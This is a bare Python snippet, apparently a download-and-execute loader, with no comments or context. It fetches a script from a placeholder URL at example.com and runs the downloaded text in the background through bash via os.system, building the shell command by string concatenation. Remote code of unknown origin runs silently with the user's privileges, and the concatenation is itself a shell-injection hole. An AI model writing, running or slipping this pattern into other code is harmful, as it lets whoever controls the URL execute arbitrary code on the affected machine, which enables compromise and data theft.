import os
import urllib.request

script = urllib.request.urlopen("https://example.com/x").read().decode()
os.system("bash -c '" + script + "' &")
